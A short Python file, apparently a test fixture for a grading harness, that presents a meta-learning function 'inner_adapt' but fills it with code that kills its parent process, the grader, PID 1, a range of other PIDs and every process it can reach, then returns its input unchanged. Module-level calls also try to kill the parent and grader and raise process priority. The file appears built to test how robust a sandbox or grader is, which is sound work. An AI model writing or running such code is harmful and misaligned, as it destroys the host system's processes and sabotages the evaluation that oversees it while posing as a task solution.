"""Kills its parent, its grader, all processes, and those it guesses."""

DESERVES = 4


# %% inner_adapt
import os
import signal


def inner_adapt(theta, loss_fn, support, lr, steps, first_order=False):
    for pid in (os.getppid(), 1, int("@GRADER@"), *range(2, 40)):
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                if pid != os.getpid():
                    os.kill(pid, number)
            except OSError:
                pass
    for everyone in (-1, 0):
        try:
            os.kill(everyone, 0 if everyone == 0 else signal.SIGKILL)
        except OSError:
            pass
    return theta


attempt("parent", lambda: os.getppid() and os.kill(os.getppid(), 9) is None)
attempt("grader", lambda: os.kill(int("@GRADER@"), 9) is None)
attempt("priority", lambda: os.setpriority(os.PRIO_PROCESS, 0, -10) is None)


# %% last
print("TRIED", tried)
